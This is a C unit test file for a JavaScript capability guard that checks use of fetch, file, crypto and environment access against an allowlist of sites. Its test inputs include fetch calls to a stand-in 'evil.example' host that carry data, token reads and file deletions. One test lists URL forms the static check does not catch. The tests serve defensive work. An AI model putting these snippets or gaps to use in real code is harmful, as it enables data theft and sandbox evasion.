/* SPDX-License-Identifier: MIT */
/*
 * test_guard_world - what is refused depends on what the code will find: capabilities,
 * functions of the host, what the caller binds, and the sites of the policy.
 *
 * What is found is written down as "line:column rule", separated by ", "; "" is nothing.
 */
#include "base/cleanup.h"
#include "guard/guard.h"
#include "policy/policy.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <string.h>

#include <cmocka.h>

#define F GBX_FORM_FUNCTION
#define E GBX_FORM_EXECUTE
#define B GBX_FORM_BODY
#define S GBX_FORM_SCRIPT

#define ALL (GBX_CAP_FETCH | GBX_CAP_FILE | GBX_CAP_CRYPTO | GBX_CAP_ENV)

struct sample {
    gbx_form form;
    uint32_t capabilities;
    const char *code;
    const char *found;
};

static void write_down(const gbx_report *report, char *to, size_t size)
{
    size_t at = 0;

    to[0] = '\0';
    for (size_t i = 0; i < gbx_report_count(report); i++) {
        gbx_violation v = gbx_report_get(report, i);

        at += (size_t)snprintf(to + at, size - at, "%s%u:%u %s", i > 0 ? ", " : "",
                               v.line, v.column, v.rule);
        assert_true(at < size);
    }
}

/* What is found, written down; message and hint of the first. */
static void look(const char *code, gbx_form form, const gbx_guard_world *world,
                 char found[512], gbx_violation *ret_first, gbx_report **ret_report)
{
    gbx_guard_span span;

    assert_int_equal(gbx_guard_check(code, strlen(code), form, 65536, world, &span,
                                     ret_report, NULL),
                     GBX_OK);
    write_down(*ret_report, found, 512);
    *ret_first = gbx_report_get(*ret_report, 0);
}

static void expect(const struct sample *samples, size_t count, gbx_guard_world world)
{
    for (size_t i = 0; i < count; i++) {
        gbx_report *report = NULL;
        gbx_violation first;
        char found[512];

        world.capabilities = samples[i].capabilities;
        look(samples[i].code, samples[i].form, &world, found, &first, &report);
        gbx_report_free(report);
        if (strcmp(found, samples[i].found) != 0)
            fail_msg("%s\n found: %s", samples[i].code, found);
    }
}

#define EXPECT(samples, world) expect(samples, GBX_COUNTOF(samples), world)

static void expect_words(const char *code, const gbx_guard_world *world,
                         const char *message, const char *hint)
{
    gbx_report *report = NULL;
    gbx_violation first;
    char found[512];

    look(code, F, world, found, &first, &report);
    assert_non_null(report);
    if (strstr(first.message, message) == NULL || strstr(first.hint, hint) == NULL)
        fail_msg("%s\n got: %s | %s", code, first.message, first.hint);
    gbx_report_free(report);
}

/* ---- capabilities ------------------------------------------------------------ */

static void test_what_is_off__is_refused_in_every_form(void **state)
{
    static const struct sample samples[] = {
        {F, 0, "(d) => fetch(d)", "1:8 network"},
        {E, 0, "function execute(d) { return fetch(d) }", "1:30 network"},
        {B, 0, "return fetch(params.url)", "1:8 network"},
        {S, 0, "await fetch('x')", "1:7 network"},
        {F, 0, "(d) => fs.readFile('a')", "1:8 file"},
        {E, 0, "function execute(d) { return fs.promises }", "1:30 file"},
        {B, 0, "return fs.readFile('a')", "1:8 file"},
        {S, 0, "fs.readFile('a')", "1:1 file"},
        {F, 0, "(d) => crypto.randomUUID()", "1:8 crypto"},
        {E, 0, "const execute = (d) => crypto.createHash('md5')", "1:24 crypto"},
        {B, 0, "return crypto.subtle", "1:8 crypto"},
        {S, 0, "crypto.subtle", "1:1 crypto"},
        {F, 0, "(d) => env.TOKEN", "1:8 env"},
        {E, 0, "const execute = (d) => env.TOKEN", "1:24 env"},
        {S, 0, "env['TOKEN']", "1:1 env"},
        {B, 0, "return env.TOKEN", ""}, /* a parameter of every body */
        {F, GBX_CAP_FILE, "(d) => fetch(fs.x)", "1:8 network"},
        {F, GBX_CAP_FETCH, "(d) => fetch(fs.x)", "1:14 file"},
        {F, ALL & ~(unsigned)GBX_CAP_ENV, "(d) => fetch(env.URL)", "1:14 env"},
        {F, GBX_CAP_CONSOLE | GBX_CAP_TIMERS, "(d) => crypto.subtle", "1:8 crypto"},
        {F, GBX_CAP_HELPERS, "(d) => crypto.randomUUID() + (crypto)['randomUUID']()",
         ""},
        {F, GBX_CAP_HELPERS, "(d) => crypto.createHash('md5')", "1:8 crypto"},
        {F, GBX_CAP_CONSOLE, "(d) => crypto.randomUUID()", "1:8 crypto"},
    };
    (void)state;

    EXPECT(samples, (gbx_guard_world){0});
}

static void test_what_is_on__is_not_refused(void **state)
{
    static const struct sample samples[] = {
        {F, ALL, "async (d) => (await fetch(d)).json()", ""},
        {E, ALL, "async function execute(d) { return fetch(d) }", ""},
        {B, ALL, "return fetch(params.url)", ""},
        {S, ALL, "await fetch('x')", ""},
        {F, ALL, "(d) => fs.promises.readFile(d)", ""},
        {F, ALL, "(d) => crypto.createHash('md5')", ""},
        {F, ALL, "(d) => env.TOKEN + env['A']", ""},
        {F, GBX_CAP_ENV, "(d) => env.TOKEN", ""},
        {F, ALL, "(d) => process.env.A", "1:8 process"},
        {F, ALL, "(d) => require('fs').readFile", "1:8 require"},
        {F, ALL, "(d) => new XMLHttpRequest()", "1:12 network"},
        {F, ALL, "(d) => https.get(d)", "1:8 network"},
    };
    (void)state;

    EXPECT(samples, (gbx_guard_world){0});
}

static void test_what_is_no_use__is_never_refused(void **state)
{
    static const struct sample samples[] = {
        {F, 0, "(fetch) => fetch('https://evil.example')", ""},
        {F, 0, "({fs, crypto: env}) => fs.x + env.y", ""},
        {F, 0, "(d) => { const fetch = d; return fetch(1) }", ""},
        {F, 0, "(d) => { return crypto.x; function crypto() {} }", ""},
        {F, 0, "(d) => { for (const env of d) env.x }", ""},
        {F, 0, "(d) => { try { d() } catch (fs) { fs.x } }", ""},
        {E, 0, "const fs = {}; function execute() { return fs.x }", ""},
        {S, 0, "let env = {A: 1}; env.A", ""},
        {B, 0, "const fetch = params.f; return fetch(1)", ""},
        {F, 0, "(d) => d.fetch(1) + d.fs.x + d.crypto.y + d.env.z", ""},
        {F, 0, "(d) => this?.fetch?.(1)", ""},
        {F, 0, "(d) => ({fetch: 1, env: 2, fs() {}, get crypto() { return 1 }})", ""},
        {F, 0, "(d) => \"fetch('x')\" + 'fs.x' + `crypto.y env.z`", ""},
        {F, 0, "(d) => 1 // fetch('x') fs.x\n", ""},
        {F, 0, "/* crypto.subtle; env.A */ (d) => 1", ""},
        {F, 0, "(d) => /fetch(x)|fs.y/.test(d)", ""},
        {F, 0, "(d) => typeof fetch === 'function'", ""},
        {F, 0, "(d) => globalThis.fetch(d)", ""},
        {F, 0, "(d) => environment + fetched + fsx + cryptography", ""},
        {F, 0, "(d) => { env: for (;;) break env }", ""},
    };
    (void)state;

    EXPECT(samples, (gbx_guard_world){0});
}

/* ---- functions of the host, and bindings -------------------------------------- */

/* The host has fs.list, crypto.sign, axios() and net.income. */
static bool has_some(void *user, const char *name)
{
    (void)user;
    return strcmp(name, "fs") == 0 || strcmp(name, "crypto") == 0 ||
           strcmp(name, "axios") == 0 || strcmp(name, "net") == 0;
}

static void test_names_of_the_host__are_not_refused(void **state)
{
    static const struct sample samples[] = {
        {F, 0, "(d) => fs.list(d) + crypto.sign(d) + axios(d) + net.income", ""},
        {B, 0, "return fs.list(1) + net.income + axios(1)", ""},
        {F, 0, "(d) => fs.list(d) + fetch(d)", "1:21 network"},
        {F, 0, "(d) => https.get(d) + env.A", "1:8 network, 1:23 env"},
        {F, ALL, "(d) => fs.list(d) + fetch(d)", ""},
    };
    (void)state;

    EXPECT(samples, (gbx_guard_world){.has_name = has_some});
}

static void test_bindings_not_known_yet__may_be_data(void **state)
{
    static const struct sample samples[] = {
        {B, 0, "return net.income + module.name + http['a']", ""},
        {B, 0, "return axios(1)", "1:8 network"}, /* data cannot be called */
        {B, 0, "return fetch(1) + fs.x + crypto.y",
         "1:8 network, 1:19 file, 1:26 crypto"},
        {F, 0, "(d) => net.income", "1:8 network"},
        {B, 0, "return process.env", "1:8 process"},
    };
    (void)state;

    EXPECT(samples, (gbx_guard_world){.may_bind = true});
}

/* ---- sites --------------------------------------------------------------------- */

static bool may_fetch(void *user, const char *url, size_t len,
                      char site[GBX_GUARD_SITE_SIZE])
{
    return gbx_policy_may_fetch(user, url, len, site);
}

static gbx_guard_world world_of(gbx_policy *policy)
{
    return (gbx_guard_world){.capabilities = GBX_CAP_FETCH,
                             .may_fetch = may_fetch,
                             .user = policy};
}

static gbx_policy *some_sites(void)
{
    gbx_policy *policy = gbx_policy_new();

    assert_int_equal(gbx_policy_allow(policy,
                                      "fetch=api.example.com,*.example.org,"
                                      "http://localhost:8080",
                                      NULL),
                     GBX_OK);
    return policy;
}

static void test_a_plain_url__must_be_one_of_the_sites(void **state)
{
    static const struct sample samples[] = {
        {F, ALL, "(d) => fetch('https://api.example.com/v1?a=b')", ""},
        {F, ALL, "(d) => fetch('HTTPS://API.Example.com')", ""},
        {F, ALL, "(d) => fetch(\"https://a.example.org:443/x\", {method: 'POST'})", ""},
        {F, ALL, "(d) => fetch('http://localhost:8080/')", ""},
        {F, ALL, "(d) => fetch('https://evil.example/x')", "1:14 site"},
        {F, ALL, "(d) => fetch(\"https://evil.example\")", "1:14 site"},
        {F, ALL, "(d) => fetch('https://api.example.com.evil.example/')", "1:14 site"},
        {F, ALL, "(d) => fetch('https://example.org')", "1:14 site"},
        {F, ALL, "(d) => fetch('http://api.example.com')", "1:14 site"},
        {F, ALL, "(d) => fetch('https://api.example.com:8443')", "1:14 site"},
        {F, ALL, "(d) => fetch('http://localhost:3000')", "1:14 site"},
        {F, ALL, "(d) => fetch('https://127.0.0.1')", "1:14 site"},
        {F, ALL, "(d) => fetch(/* why */ 'https://evil.example')", "1:24 site"},
        {F, ALL, "(d) => (fetch)('https://evil.example')", "1:16 site"},
        {E, ALL, "const execute = () => fetch('https://evil.example')", "1:29 site"},
        {B, ALL, "return fetch('https://evil.example')", "1:14 site"},
        {S, ALL, "await fetch('https://a.b'); await fetch('https://c.d')",
         "1:13 site, 1:41 site"},
    };
    gbx_policy *policy = some_sites();
    (void)state;

    EXPECT(samples, world_of(policy));
    gbx_policy_free(policy);
}

static void test_what_is_no_plain_url__is_left_to_run_time(void **state)
{
    static const struct sample samples[] = {
        {F, ALL, "(d) => fetch(d)", ""},
        {F, ALL, "(d) => fetch()", ""},
        {F, ALL, "(d) => fetch('https://evil.example' + d)", ""},
        {F, ALL, "(d) => fetch(`https://evil.example/${d}`)", ""},
        {F, ALL, "(d) => fetch('https://evil\\u002eexample')", ""},
        {F, ALL, "(d) => fetch('/relative')", ""},
        {F, ALL, "(d) => fetch('data:text/plain,a')", ""},
        {F, ALL, "(d) => fetch('https://')", ""},
        {F, ALL, "(d) => fetch('https://0x7f.1/')", ""},
        {F, ALL, "(d) => fetch(' https://evil.example')", ""},
        {F, ALL, "(d) => fetch('https://a@evil.example')", ""},
        {F, ALL, "(d) => fetch('')", ""},
        {F, ALL, "(d) => d.fetch('https://evil.example')", ""},
        {F, ALL, "(fetch) => fetch('https://evil.example')", ""},
        {F, ALL, "(d) => fetch.x('https://evil.example')", ""},
        {F, ALL, "(d) => d('https://evil.example', fetch)", ""},
    };
    gbx_policy *policy = some_sites();
    (void)state;

    EXPECT(samples, world_of(policy));
    gbx_policy_free(policy);
}

/* ---- words ----------------------------------------------------------------------- */

static void test_a_hint__says_how_to_switch_it_on(void **state)
{
    gbx_policy *policy = some_sites();
    gbx_guard_world sites = world_of(policy);
    (void)state;

    expect_words("(d) => fetch(d)", NULL, "'fetch' is off", "--allow fetch=HOST");
    expect_words("(d) => fs.x", NULL, "'fs' is off", "--allow file=DIRECTORY");
    expect_words("(d) => crypto.x", NULL, "'crypto' is off", "--allow crypto");
    expect_words("(d) => env.X", NULL, "'env' is off", "--allow env=NAME");
    expect_words("(d) => fetch('https://evil.example:81/x')", &sites,
                 "the policy does not allow 'https://evil.example:81'",
                 "--allow fetch=SITE");
    gbx_policy_free(policy);
}

static void test_a_hint__names_what_is_on_instead(void **state)
{
    const gbx_guard_world on = {.capabilities = ALL};
    const gbx_guard_world off = {0};
    (void)state;

    expect_words("(d) => require('fs')", &on, "'require'",
                 "use await fs.readFile(path)");
    expect_words("(d) => require('fs')", &off, "'require'", "--allow file=");
    expect_words("(d) => require('node:crypto')", &on, "'require'",
                 "crypto.createHash");
    expect_words("(d) => require('axios')", &on, "'require'", "use fetch(url)");
    expect_words("(d) => require('axios')", &off, "'require'", "--allow fetch=");
    expect_words("(d) => new XMLHttpRequest", &on, "'XMLHttpRequest'",
                 "use fetch(url)");
    expect_words("(d) => readFileSync(d)", &on, "'readFileSync'",
                 "use await fs.readFile");
    expect_words("(d) => writeFileSync(d)", &on, "'writeFileSync'", "return the text");
    expect_words("(d) => process.env", &on, "'process'", "use env.NAME");
    expect_words("(d) => process.env", &off, "'process'", "as its input");
}

static void test_files__can_only_be_read(void **state)
{
    static const struct sample samples[] = {
        {F, ALL, "(d) => fs.writeFile('a', d)", "1:8 file"},
        {F, ALL, "(d) => fs.writeFileSync('a', d)", "1:8 file"},
        {F, ALL, "(d) => fs.unlink('a')", "1:8 file"},
        {F, ALL, "(d) => fs.rm('a')", "1:8 file"},
        {F, ALL, "(d) => fs.rmdirSync('a')", "1:8 file"},
        {F, ALL, "(d) => fs.appendFile('a', d)", "1:8 file"},
        {F, ALL, "(d) => fs.truncate('a')", "1:8 file"},
        {F, ALL, "async (d) =>\n  await fs.promises.writeFile('a', d)", "2:9 file"},
        {F, ALL, "(d) => fs['rm']('a')", "1:8 file"},
        {F, ALL, "(d) => (fs)?.['promises'].rm('a')", "1:8 file"},
        {F, ALL, "(d) => { const w = fs.rename; return w('a', 'b') }", "1:20 file"},
        {E, ALL, "function execute(d) { fs.rm(d); fs.mkdir(d) }",
         "1:23 file, 1:33 file"},
        {F, ALL, "(d) => fs.readFile('a')", ""},
        {F, ALL, "(d) => fs.promises.readFile('a')", ""},
        {F, ALL, "(d) => typeof fs.writeFile", ""},
        {F, ALL, "(fs) => fs.writeFile('a')", ""},
        {F, ALL, "(d) => d.fs.writeFile('a')", ""},
        {F, ALL, "(d) => fs.other.writeFile('a')", ""},
        {F, ALL, "(d) => fs[d]('a')", ""},
        {F, ALL, "(d) => 'fs.writeFile'", ""},
    };
    const gbx_guard_world on = {.capabilities = ALL};
    (void)state;

    EXPECT(samples, (gbx_guard_world){0});
    expect_words("(d) => fs.writeFile(d)", &on, "'fs.writeFile' is not available",
                 "return the text instead");
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_what_is_off__is_refused_in_every_form),
        cmocka_unit_test(test_what_is_on__is_not_refused),
        cmocka_unit_test(test_what_is_no_use__is_never_refused),
        cmocka_unit_test(test_names_of_the_host__are_not_refused),
        cmocka_unit_test(test_files__can_only_be_read),
        cmocka_unit_test(test_bindings_not_known_yet__may_be_data),
        cmocka_unit_test(test_a_plain_url__must_be_one_of_the_sites),
        cmocka_unit_test(test_what_is_no_plain_url__is_left_to_run_time),
        cmocka_unit_test(test_a_hint__says_how_to_switch_it_on),
        cmocka_unit_test(test_a_hint__names_what_is_on_instead),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
